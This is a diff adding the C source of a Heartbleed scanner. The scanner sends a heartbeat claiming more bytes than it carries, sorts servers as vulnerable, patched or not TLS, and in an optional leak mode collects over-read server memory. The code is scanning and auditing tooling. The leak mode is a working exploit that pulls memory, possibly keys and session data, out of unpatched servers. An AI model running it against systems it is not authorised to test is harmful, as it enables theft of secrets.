@@ -1,0 +1,703 @@
+#include "probe/kit.h"
+
+#include <openssl/rand.h>
+#include <stdarg.h>
+#include <stdio.h>
+#include <stdlib.h>
+#include <string.h>
+
+enum phase { PH_CONNECT, PH_HANDSHAKE, PH_PROBED, PH_FOLLOWED, PH_LEAKING, PH_DONE };
+
+enum {
+    MAX_HANDSHAKE_MESSAGE = 256 * 1024, /* OpenSSL 1.0.1 accepts certificate lists to 100 KB */
+    MAX_WARNINGS = 64,                  /* more warning alerts than this is a flood */
+    LEAK_IDLE_MS = 1000,                /* the tail of an over-read may never leave the server */
+    JUDGE_BYTES = TLS_HEARTBEAT_HEADER_LEN + 16, /* enough of an answer to know whose it is */
+    FIRST_BYTES = 48,                   /* kept to quote a non-TLS reply */
+};
+
+struct attempt {
+    uint16_t version;
+    bool sni;
+};
+
+/* Records are consumed as their bytes arrive: no record is ever buffered whole. */
+struct record_in {
+    uint8_t hdr[TLS_RECORD_HEADER_LEN];
+    size_t hdr_len;
+    struct tls_record_header cur;
+    size_t body_seen;
+    uint8_t head[JUDGE_BYTES]; /* first bytes of an alert or heartbeat body */
+    size_t head_len;
+    bool judged; /* heartbeat: decided on, the rest is skipped or collected */
+};
+
+struct probe {
+    struct probe_config cfg;
+    enum phase phase;
+    uint64_t deadline;
+    uint64_t followup_at;
+    uint64_t leak_idle_at;
+    struct attempt attempt;
+    bool sni_refused;  /* the server refused our SNI (alert unrecognized_name) */
+    bool tried_plain;  /* the no-SNI retry of a name target was made */
+    unsigned failures; /* handshakes that failed */
+    unsigned version_refusals;
+    char failure[160]; /* why the last handshake failed */
+    /* per connection */
+    struct record_in rin;
+    uint8_t first[FIRST_BYTES];
+    size_t first_len;
+    bool any_record;
+    struct tls_handshake_buffer hs;
+    unsigned warnings;
+    uint8_t hello[1024];
+    const uint8_t *out;
+    size_t out_len;
+    /* --leak */
+    uint8_t *leak;
+    size_t leak_payload_seen;
+    struct probe_result result;
+};
+
+const char *probe_verdict_name(enum probe_verdict v)
+{
+    static const char *const names[] = {"vulnerable", "patched",     "not_vulnerable",
+                                        "not_tls",    "unreachable", "inconclusive"};
+    return (unsigned)v < HC_ARRAY_LEN(names) ? names[v] : "inconclusive";
+}
+
+static const char *version_name(uint16_t v)
+{
+    const char *n = tls_version_name(v);
+    return n ? n : "an unknown version";
+}
+
+static const char *alert_name(uint8_t d)
+{
+    const char *n = tls_alert_name(d);
+    return n ? n : "unknown";
+}
+
+/* ---- ending ---- */
+
+__attribute__((format(printf, 3, 4))) static void finish(struct probe *p, enum probe_verdict v,
+                                                         const char *fmt, ...)
+{
+    if (p->phase == PH_DONE)
+        return;
+    va_list ap;
+    va_start(ap, fmt);
+    vsnprintf(p->result.reason, sizeof p->result.reason, fmt, ap);
+    va_end(ap);
+    p->result.verdict = v;
+    p->result.evidence.sni_sent = p->attempt.sni && p->cfg.server_name;
+    p->result.leak = p->leak;
+    p->phase = PH_DONE;
+    p->out = NULL;
+    p->out_len = 0;
+    tls_handshake_buffer_free(&p->hs);
+}
+
+static void fail(struct probe *p, hc_result r, const char *what)
+{
+    finish(p, PROBE_INCONCLUSIVE, "%s: %s", what, hc_error_message(r.error));
+}
+
+/* ---- attempts: TLS 1.2 -> 1.1 -> 1.0 -> SSLv3, SNI dropped when refused ---- */
+
+static bool plan_next_attempt(struct probe *p, bool name_refused)
+{
+    if (p->result.evidence.attempts >= PROBE_MAX_ATTEMPTS)
+        return false;
+    if (name_refused && p->attempt.sni) {
+        p->sni_refused = true;
+        p->attempt.sni = false; /* same version, without the name it refused */
+        return true;
+    }
+    if (p->attempt.version > TLS_VERSION_SSL3) {
+        p->attempt.version--;
+        return true;
+    }
+    /* Some servers fail every hello that names them wrongly, without saying so. */
+    if (p->cfg.server_name && !p->sni_refused && !p->tried_plain) {
+        p->tried_plain = true;
+        p->attempt = (struct attempt){.version = p->cfg.max_version, .sni = false};
+        return true;
+    }
+    return false;
+}
+
+static void attempts_exhausted(struct probe *p)
+{
+    if (p->version_refusals == p->failures)
+        finish(p, PROBE_NOT_VULNERABLE,
+               "refuses SSLv3 to TLS 1.2 (alert protocol_version each time); OpenSSL 1.0.1 "
+               "always speaks one of them");
+    else
+        finish(p, PROBE_INCONCLUSIVE, "no handshake at any version from %s to SSLv3; last: %s",
+               version_name(p->cfg.max_version), p->failure);
+}
+
+__attribute__((format(printf, 3, 4))) static void handshake_failed(struct probe *p,
+                                                                   bool name_refused,
+                                                                   const char *fmt, ...)
+{
+    va_list ap;
+    va_start(ap, fmt);
+    int n = snprintf(p->failure, sizeof p->failure, "%s: ", version_name(p->attempt.version));
+    vsnprintf(p->failure + n, sizeof p->failure - (size_t)n, fmt, ap);
+    va_end(ap);
+    p->failures++;
+    if (plan_next_attempt(p, name_refused)) {
+        p->phase = PH_CONNECT;
+        p->out = NULL;
+        p->out_len = 0;
+    } else {
+        attempts_exhausted(p);
+    }
+}
+
+/* ---- sending ---- */
+
+static void send_client_hello(struct probe *p)
+{
+    bool ssl3 = p->attempt.version == TLS_VERSION_SSL3;
+    struct tls_client_hello_params params = {
+        .version = p->attempt.version,
+        /* TLS 1.0 in the record layer is what 2014 clients sent; some servers reject more. */
+        .record_version = ssl3 ? TLS_VERSION_SSL3 : TLS_VERSION_TLS10,
+        .server_name = p->attempt.sni ? p->cfg.server_name : NULL,
+        /* SSLv3-only servers may choke on extensions; OpenSSL answers heartbeats without. */
+        .with_extensions = !ssl3,
+    };
+    if (RAND_bytes(params.random, sizeof params.random) != 1)
+        memset(params.random, 0x5a, sizeof params.random); /* not a secret: any value works */
+    struct wire_writer w = wire_writer_init(p->hello, sizeof p->hello);
+    hc_result r = tls_client_hello_write(&w, &params);
+    if (!hc_ok(r)) {
+        fail(p, r, "cannot build the ClientHello");
+        return;
+    }
+    p->out = p->hello;
+    p->out_len = w.len;
+}
+
+static void send_heartbeat(struct probe *p, enum kit_record which)
+{
+    kit_record(p->cfg.kit, which, p->result.evidence.tls_version, &p->out, &p->out_len);
+}
+
+static void send_probe(struct probe *p, uint64_t now)
+{
+    tls_handshake_buffer_free(&p->hs); /* the handshake is over for us */
+    p->result.evidence.claimed_length = p->cfg.kit->probe_claim;
+    send_heartbeat(p, KIT_PROBE);
+    p->phase = PH_PROBED;
+    p->followup_at = now + p->cfg.followup_ms;
+}
+
+/* ---- handshake messages ---- */
+
+static void on_server_hello(struct probe *p, const struct tls_handshake_message *m)
+{
+    struct probe_evidence *ev = &p->result.evidence;
+    struct tls_server_hello sh;
+    hc_result r = tls_server_hello_parse(m->body, m->len, &sh);
+    if (ev->server_hello) {
+        finish(p, PROBE_INCONCLUSIVE, "a second ServerHello");
+    } else if (!hc_ok(r)) {
+        fail(p, r, "malformed ServerHello");
+    } else if (sh.version > p->attempt.version) {
+        finish(p, PROBE_INCONCLUSIVE, "the server chose %s, above the %s we offered",
+               version_name(sh.version), version_name(p->attempt.version));
+    } else {
+        ev->server_hello = true;
+        ev->tls_version = sh.version;
+        ev->cipher = sh.cipher_suite;
+        ev->heartbeat_extension = sh.heartbeat;
+    }
+}
+
+static void on_certificate(struct probe *p, const struct tls_handshake_message *m)
+{
+    struct probe_evidence *ev = &p->result.evidence;
+    struct tls_certificate_chain chain;
+    /* The certificate is evidence, not part of the test: a bad one does not stop the probe. */
+    if (!hc_ok(tls_certificate_parse(m->body, m->len, &chain)))
+        return;
+    ev->chain_length = chain.count;
+    ev->cert_seen = hc_ok(tls_cert_info_from_der(chain.leaf, chain.leaf_len, &ev->cert));
+}
+
+static void on_handshake_message(struct probe *p, uint64_t now,
+                                 const struct tls_handshake_message *m)
+{
+    bool have_hello = p->result.evidence.server_hello;
+    switch (m->type) {
+    case TLS_HS_HELLO_REQUEST:
+        return;
+    case TLS_HS_SERVER_HELLO:
+        on_server_hello(p, m);
+        return;
+    default:
+        break;
+    }
+    if (!have_hello) {
+        finish(p, PROBE_INCONCLUSIVE, "handshake message %u before the ServerHello", m->type);
+    } else if (m->type == TLS_HS_CERTIFICATE) {
+        on_certificate(p, m);
+    } else if (m->type == TLS_HS_SERVER_HELLO_DONE) {
+        hc_result r = tls_server_hello_done_parse(m->body, m->len);
+        if (hc_ok(r))
+            send_probe(p, now); /* heartbeat in plaintext, before our ClientKeyExchange */
+        else
+            fail(p, r, "malformed ServerHelloDone");
+    }
+    /* ServerKeyExchange, CertificateRequest, CertificateStatus: nothing we need. */
+}
+
+static void on_handshake_bytes(struct probe *p, uint64_t now, const uint8_t *data, size_t len)
+{
+    if (p->phase != PH_HANDSHAKE)
+        return; /* after our probe, handshake records do not matter */
+    hc_result r = tls_handshake_append(&p->hs, data, len);
+    while (hc_ok(r) && p->phase == PH_HANDSHAKE) {
+        struct tls_handshake_message m;
+        r = tls_handshake_next(&p->hs, &m);
+        if (hc_ok(r))
+            on_handshake_message(p, now, &m);
+    }
+    if (r.error != HC_ERR_SHORT && !hc_ok(r))
+        fail(p, r, "bad handshake message");
+}
+
+/* ---- alerts ---- */
+
+static void on_alert_after_probe(struct probe *p, const struct tls_alert *a)
+{
+    if (a->description == TLS_ALERT_PROTOCOL_VERSION)
+        finish(p, PROBE_INCONCLUSIVE, "the server refused the heartbeat's record version "
+                                      "(alert protocol_version)");
+    else if (a->description == TLS_ALERT_UNEXPECTED_MESSAGE)
+        finish(p, PROBE_NOT_VULNERABLE, "heartbeat refused with alert unexpected_message: no "
+                                        "heartbeat support");
+    else
+        finish(p, PROBE_NOT_VULNERABLE, "heartbeat refused with alert %s (%u)",
+               alert_name(a->description), a->description);
+}
+
+static void on_alert(struct probe *p, const struct tls_alert *a)
+{
+    struct probe_evidence *ev = &p->result.evidence;
+    ev->alert_seen = true;
+    ev->alert = *a;
+    bool closing = a->level == TLS_ALERT_FATAL || a->description == TLS_ALERT_CLOSE_NOTIFY;
+    if (!closing) {
+        if (++p->warnings > MAX_WARNINGS)
+            finish(p, PROBE_INCONCLUSIVE, "alert flood: more than %d warning alerts", MAX_WARNINGS);
+        return;
+    }
+    if (p->phase == PH_HANDSHAKE) {
+        if (a->description == TLS_ALERT_PROTOCOL_VERSION)
+            p->version_refusals++;
+        handshake_failed(p, a->description == TLS_ALERT_UNRECOGNIZED_NAME, "alert %s (%u)",
+                         alert_name(a->description), a->description);
+    } else if (p->phase == PH_LEAKING) {
+        finish(p, PROBE_VULNERABLE, "over-read answered: %zu bytes of server memory received",
+               ev->leaked_bytes);
+    } else {
+        on_alert_after_probe(p, a);
+    }
+}
+
+static void on_alert_bytes(struct probe *p, const uint8_t *data, size_t len)
+{
+    struct record_in *ri = &p->rin;
+    for (size_t i = 0; i < len && p->phase != PH_DONE && p->phase != PH_CONNECT; i++) {
+        ri->head[ri->head_len++] = data[i];
+        if (ri->head_len < 2)
+            continue;
+        struct wire_reader r = wire_reader_init(ri->head, 2);
+        struct tls_alert a;
+        hc_result res = tls_alert_parse(&r, &a);
+        ri->head_len = 0;
+        if (hc_ok(res))
+            on_alert(p, &a);
+        else
+            fail(p, res, "bad alert");
+    }
+}
+
+/* ---- heartbeat answers ---- */
+
+static bool echoes(const struct probe *p, enum kit_record which, const uint8_t *payload,
+                   size_t len, uint16_t claimed)
+{
+    uint16_t expected = which == KIT_PROBE ? p->cfg.kit->probe_claim : PROBE_FOLLOWUP_PAYLOAD;
+    if (claimed != expected || len == 0)
+        return false;
+    for (size_t i = 0; i < len; i++)
+        if (payload[i] != kit_payload_byte(which, i))
+            return false;
+    return true;
+}
+
+static void finish_leak(struct probe *p)
+{
+    finish(p, PROBE_VULNERABLE,
+           "answered a heartbeat claiming %u bytes more than it carried: %zu bytes of server "
+           "memory received",
+           p->cfg.kit->leak_bytes, p->result.evidence.leaked_bytes);
+}
+
+static void collect_leak(struct probe *p, uint64_t now, const uint8_t *data, size_t len)
+{
+    struct probe_evidence *ev = &p->result.evidence;
+    for (size_t i = 0; i < len; i++, p->leak_payload_seen++) {
+        size_t at = p->leak_payload_seen;
+        if (at >= PROBE_PAYLOAD && at < p->cfg.kit->probe_claim) {
+            p->leak[at - PROBE_PAYLOAD] = data[i];
+            ev->leaked_bytes = at - PROBE_PAYLOAD + 1;
+        }
+    }
+    p->leak_idle_at = now + LEAK_IDLE_MS;
+    if (p->leak_payload_seen >= p->cfg.kit->probe_claim)
+        finish_leak(p);
+}
+
+static void vulnerable(struct probe *p, uint64_t now)
+{
+    const struct probe_evidence *ev = &p->result.evidence;
+    if (p->cfg.kit->leak_bytes == 0) {
+        finish(p, PROBE_VULNERABLE,
+               "answered a heartbeat without padding, echoing our %d bytes: the 1.0.1g length "
+               "check is missing (no server memory read)%s",
+               PROBE_PAYLOAD,
+               ev->heartbeat_extension ? "" : "; the ServerHello had no heartbeat extension");
+        return;
+    }
+    p->leak = calloc(1, p->cfg.kit->leak_bytes);
+    if (!p->leak) {
+        finish(p, PROBE_VULNERABLE, "echoed the probe; out of memory for the over-read");
+        return;
+    }
+    p->phase = PH_LEAKING;
+    p->leak_payload_seen = p->rin.head_len - TLS_HEARTBEAT_HEADER_LEN;
+    p->leak_idle_at = now + LEAK_IDLE_MS;
+}
+
+static void judge_heartbeat(struct probe *p, uint64_t now)
+{
+    struct record_in *ri = &p->rin;
+    ri->judged = true;
+    struct wire_reader r = wire_reader_init(ri->head, ri->head_len);
+    struct tls_heartbeat_header hb;
+    hc_result res = tls_heartbeat_header_parse(&r, &hb);
+    if (!hc_ok(res)) {
+        fail(p, res, "bad heartbeat record");
+        return;
+    }
+    if (hb.type == TLS_HEARTBEAT_REQUEST)
+        return; /* the server's own heartbeat: skip it */
+    const uint8_t *payload = wire_peek(&r);
+    size_t n = wire_remaining(&r);
+    if (echoes(p, KIT_PROBE, payload, n, hb.payload_length))
+        vulnerable(p, now);
+    else if (echoes(p, KIT_FOLLOWUP, payload, n, hb.payload_length))
+        finish(p, PROBE_PATCHED, "dropped the heartbeat without padding and answered the "
+                                 "well-formed one: the 1.0.1g length check is there");
+    else
+        finish(p, PROBE_INCONCLUSIVE,
+               "a heartbeat response that echoes neither of ours (payload_length %u)",
+               hb.payload_length);
+}
+
+static void on_heartbeat_bytes(struct probe *p, uint64_t now, const uint8_t *data, size_t len)
+{
+    struct record_in *ri = &p->rin;
+    if (p->phase == PH_LEAKING && !ri->judged) {
+        collect_leak(p, now, data, len); /* a continuation record: all payload */
+        return;
+    }
+    if (p->phase != PH_PROBED && p->phase != PH_FOLLOWED)
+        return; /* before our probe: a heartbeat request of the server's, ignored */
+    size_t want = ri->cur.length < JUDGE_BYTES ? ri->cur.length : JUDGE_BYTES;
+    size_t take = 0;
+    while (!ri->judged && take < len && ri->head_len < want)
+        ri->head[ri->head_len++] = data[take++];
+    if (!ri->judged && ri->head_len == want)
+        judge_heartbeat(p, now);
+    if (p->phase == PH_LEAKING && take < len)
+        collect_leak(p, now, data + take, len - take);
+}
+
+/* ---- records ---- */
+
+static void quote_reply(const struct probe *p, char *out, size_t cap)
+{
+    size_t o = 0;
+    for (size_t i = 0; i < p->first_len && o + 5 < cap; i++) {
+        uint8_t c = p->first[i];
+        if (c >= 0x20 && c < 0x7f && c != '"' && c != '\\')
+            out[o++] = (char)c;
+        else
+            o += (size_t)snprintf(out + o, cap - o, "\\x%02x", c);
+    }
+    out[o] = '\0';
+}
+
+static void not_tls(struct probe *p, hc_result r)
+{
+    if (p->any_record) {
+        fail(p, r, "non-TLS bytes after TLS records");
+        return;
+    }
+    char quoted[4 * FIRST_BYTES + 1];
+    quote_reply(p, quoted, sizeof quoted);
+    /* An SSLv2 SERVER-HELLO: two-byte header with the top bit set, message type 4. */
+    if (p->first_len >= 3 && (p->first[0] & 0x80) && p->first[2] == 4)
+        finish(p, PROBE_NOT_TLS, "SSLv2-only reply (no TLS, no heartbeats): \"%s\"", quoted);
+    else
+        finish(p, PROBE_NOT_TLS, "reply is not TLS: \"%s\"", quoted);
+}
+
+static void record_started(struct probe *p)
+{
+    struct record_in *ri = &p->rin;
+    struct wire_reader r = wire_reader_init(ri->hdr, sizeof ri->hdr);
+    hc_result res = tls_record_header_parse(&r, &ri->cur);
+    if (res.error == HC_ERR_NOT_TLS) {
+        not_tls(p, res);
+    } else if (!hc_ok(res)) {
+        fail(p, res, "bad record header");
+    } else if (p->phase == PH_HANDSHAKE && (ri->cur.type == TLS_CT_CHANGE_CIPHER_SPEC ||
+                                            ri->cur.type == TLS_CT_APPLICATION_DATA)) {
+        finish(p, PROBE_INCONCLUSIVE, "unexpected record type %u during the handshake",
+               ri->cur.type);
+    }
+    p->any_record = true;
+    ri->body_seen = 0;
+    ri->head_len = 0;
+    ri->judged = false;
+}
+
+static void record_body(struct probe *p, uint64_t now, const uint8_t *data, size_t len)
+{
+    switch (p->rin.cur.type) {
+    case TLS_CT_HANDSHAKE:
+        on_handshake_bytes(p, now, data, len);
+        break;
+    case TLS_CT_ALERT:
+        on_alert_bytes(p, data, len);
+        break;
+    case TLS_CT_HEARTBEAT:
+        on_heartbeat_bytes(p, now, data, len);
+        break;
+    default:
+        break; /* after the probe, other records do not matter */
+    }
+}
+
+static void record_ended(struct probe *p, uint64_t now)
+{
+    struct record_in *ri = &p->rin;
+    if (ri->cur.type == TLS_CT_HEARTBEAT && !ri->judged &&
+        (p->phase == PH_PROBED || p->phase == PH_FOLLOWED))
+        judge_heartbeat(p, now); /* shorter than JUDGE_BYTES */
+    else if (ri->cur.type == TLS_CT_HEARTBEAT && p->phase == PH_LEAKING)
+        ri->judged = false; /* the next heartbeat record continues the payload */
+    if (ri->cur.type == TLS_CT_ALERT && ri->head_len != 0 && p->phase != PH_DONE)
+        fail(p, HC_RESULT(HC_ERR_BAD_ALERT), "bad alert record");
+    ri->hdr_len = 0;
+}
+
+static bool reading(const struct probe *p) { return p->phase != PH_DONE && p->phase != PH_CONNECT; }
+
+static void feed(struct probe *p, uint64_t now, const uint8_t *data, size_t len)
+{
+    struct record_in *ri = &p->rin;
+    while (len > 0 && reading(p)) {
+        if (ri->hdr_len < TLS_RECORD_HEADER_LEN) {
+            size_t take = TLS_RECORD_HEADER_LEN - ri->hdr_len;
+            take = take < len ? take : len;
+            memcpy(ri->hdr + ri->hdr_len, data, take);
+            ri->hdr_len += take;
+            data += take;
+            len -= take;
+            if (ri->hdr_len < TLS_RECORD_HEADER_LEN)
+                break;
+            record_started(p);
+        } else {
+            size_t take = ri->cur.length - ri->body_seen;
+            take = take < len ? take : len;
+            record_body(p, now, data, take);
+            ri->body_seen += take;
+            data += take;
+            len -= take;
+        }
+        if (reading(p) && ri->hdr_len == TLS_RECORD_HEADER_LEN && ri->body_seen == ri->cur.length)
+            record_ended(p, now);
+    }
+}
+
+/* ---- the driver's interface ---- */
+
+hc_result probe_new(const struct probe_config *cfg, uint64_t now_ms, struct probe **out)
+{
+    HC_ENSURE(cfg->kit && cfg->max_version >= TLS_VERSION_SSL3 &&
+                  cfg->max_version <= TLS_VERSION_TLS12,
+              HC_ERR_USAGE);
+    struct probe *p = calloc(1, sizeof *p);
+    HC_ENSURE(p, HC_ERR_NOMEM);
+    p->cfg = *cfg;
+    p->phase = PH_CONNECT;
+    p->deadline = now_ms + cfg->timeout_ms;
+    p->attempt = (struct attempt){.version = cfg->max_version, .sni = cfg->server_name != NULL};
+    tls_handshake_buffer_init(&p->hs, MAX_HANDSHAKE_MESSAGE);
+    *out = p;
+    return HC_SUCCESS;
+}
+
+void probe_free(struct probe *p)
+{
+    if (!p)
+        return;
+    tls_handshake_buffer_free(&p->hs);
+    if (p->leak)
+        hc_free_secret(p->leak, p->cfg.kit->leak_bytes);
+    hc_wipe(p, sizeof *p);
+    free(p);
+}
+
+void probe_on_connected(struct probe *p, uint64_t now_ms)
+{
+    (void)now_ms;
+    if (p->phase != PH_CONNECT)
+        return;
+    p->result.evidence.attempts++;
+    memset(&p->rin, 0, sizeof p->rin);
+    p->first_len = 0;
+    p->any_record = false;
+    p->warnings = 0;
+    p->result.evidence.server_hello = false;
+    tls_handshake_buffer_free(&p->hs);
+    p->phase = PH_HANDSHAKE;
+    send_client_hello(p);
+}
+
+void probe_on_connect_failed(struct probe *p, uint64_t now_ms, const char *why)
+{
+    (void)now_ms;
+    if (p->result.evidence.attempts == 0)
+        finish(p, PROBE_UNREACHABLE, "%s", why);
+    else
+        finish(p, PROBE_INCONCLUSIVE, "reconnecting after \"%s\" failed: %s", p->failure, why);
+}
+
+void probe_on_data(struct probe *p, uint64_t now_ms, const uint8_t *data, size_t len)
+{
+    if (!reading(p))
+        return;
+    size_t keep = FIRST_BYTES - p->first_len;
+    keep = keep < len ? keep : len;
+    memcpy(p->first + p->first_len, data, keep);
+    p->first_len += keep;
+    feed(p, now_ms, data, len);
+}
+
+void probe_on_closed(struct probe *p, uint64_t now_ms, bool reset)
+{
+    (void)now_ms;
+    const char *how = reset ? "reset" : "closed";
+    switch (p->phase) {
+    case PH_HANDSHAKE:
+        handshake_failed(p, false, "connection %s %s", how,
+                         p->first_len ? "during the handshake" : "after the ClientHello");
+        break;
+    case PH_PROBED:
+    case PH_FOLLOWED:
+        finish(p, PROBE_PATCHED,
+               "no answer to the heartbeat without padding; the server %s the connection, "
+               "as OpenSSL 1.0.1g and later do",
+               how);
+        break;
+    case PH_LEAKING:
+        finish_leak(p);
+        break;
+    default:
+        break;
+    }
+}
+
+static void deadline_passed(struct probe *p)
+{
+    double secs = p->cfg.timeout_ms / 1000.0;
+    switch (p->phase) {
+    case PH_CONNECT:
+        if (p->result.evidence.attempts == 0)
+            finish(p, PROBE_UNREACHABLE, "no connection within %gs", secs);
+        else
+            finish(p, PROBE_INCONCLUSIVE, "timed out reconnecting after \"%s\"", p->failure);
+        break;
+    case PH_HANDSHAKE:
+        if (p->first_len == 0)
+            finish(p, PROBE_INCONCLUSIVE, "connected, but no reply to the %s ClientHello in %gs",
+                   version_name(p->attempt.version), secs);
+        else
+            finish(p, PROBE_INCONCLUSIVE, "handshake incomplete after %gs (no ServerHelloDone)",
+                   secs);
+        break;
+    case PH_PROBED:
+    case PH_FOLLOWED:
+        finish(p, PROBE_PATCHED,
+               "no answer to the heartbeat without padding nor to the well-formed one in %gs", secs);
+        break;
+    case PH_LEAKING:
+        finish_leak(p);
+        break;
+    default:
+        break;
+    }
+}
+
+void probe_on_tick(struct probe *p, uint64_t now_ms)
+{
+    if (p->phase == PH_DONE)
+        return;
+    if (now_ms >= p->deadline) {
+        deadline_passed(p);
+    } else if (p->phase == PH_PROBED && now_ms >= p->followup_at) {
+        send_heartbeat(p, KIT_FOLLOWUP); /* its own write: nginx wakes up only on new bytes */
+        p->phase = PH_FOLLOWED;
+    } else if (p->phase == PH_LEAKING && now_ms >= p->leak_idle_at) {
+        finish_leak(p);
+    }
+}
+
+enum probe_state probe_state(const struct probe *p)
+{
+    if (p->phase == PH_DONE)
+        return PROBE_DONE;
+    return p->phase == PH_CONNECT ? PROBE_WANT_CONNECT : PROBE_RUNNING;
+}
+
+void probe_take_output(struct probe *p, const uint8_t **data, size_t *len)
+{
+    *data = p->out;
+    *len = p->out_len;
+    p->out = NULL;
+    p->out_len = 0;
+}
+
+uint64_t probe_wakeup_at(const struct probe *p)
+{
+    uint64_t at = p->deadline;
+    if (p->phase == PH_PROBED && p->followup_at < at)
+        at = p->followup_at;
+    if (p->phase == PH_LEAKING && p->leak_idle_at < at)
+        at = p->leak_idle_at;
+    return at;
+}
+
+const struct probe_result *probe_result(const struct probe *p) { return &p->result; }
